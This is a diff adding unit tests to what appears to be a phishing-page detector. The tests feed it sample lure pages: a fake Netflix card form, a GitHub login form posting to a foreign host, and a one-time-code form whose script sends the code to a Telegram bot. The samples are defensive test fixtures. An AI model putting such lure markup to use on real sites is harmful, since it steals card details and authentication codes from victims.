@@ -168,3 +168,34 @@ def test_a_lure_on_a_user_blog_of_a_brand_platform_still_counts(wl: Watchlists) 
     html = _page(LOGIN.format(action="https://collect.example/p.php"), "Sign in to GitHub")
     got = _judge(wl, "https://free-followers.github.io/login", html)
     assert "GitHub sign-in form on a foreign host" in _brand_reason(got)
+
+
+def test_a_card_form_named_only_by_its_labels_is_a_card_lure(wl: Watchlists) -> None:
+    form = (
+        "<form action='finish.php' method='post'><label>Card Number <input name='crd'></label>"
+        "<label>Security Code <input name='csc' maxlength='4'></label>"
+        "<button>Update Payment Method</button></form>"
+    )
+    html = _page(form, "Netflix - Payment Information")
+    got = _judge(wl, "https://account-billing.example/payment", html)
+    assert "Netflix card form on a foreign host" in _brand_reason(got)
+
+
+def test_a_code_form_sent_to_a_telegram_bot_is_a_lure_without_a_brand(wl: Watchlists) -> None:
+    body = (
+        "<h1>Enter verification code</h1><form id='f'><input type='number' id='verificationCode'"
+        " min='10000' max='99999'><button>Next</button></form><script>fetch("
+        "'https://api.telegram.org/bot123:abc/sendMessage?text=' + code)</script>"
+    )
+    got = _judge(wl, "https://gift-claim.example/verify", _page(body, "OTP Code"))
+    assert got.sso_lure
+    assert any("api.telegram.org/bot" in r for r in got.reasons)
+
+
+def test_a_code_form_posting_to_its_own_site_is_no_lure(wl: Watchlists) -> None:
+    body = (
+        "<h1>Verify Two-Factor Authentication</h1><form method='post' action=''>"
+        "<input type='number' name='totp' placeholder='Enter code'><input type='submit'></form>"
+    )
+    got = _judge(wl, "https://shop.example/2fa", _page(body, "2FA Check"))
+    assert not got.sso_lure
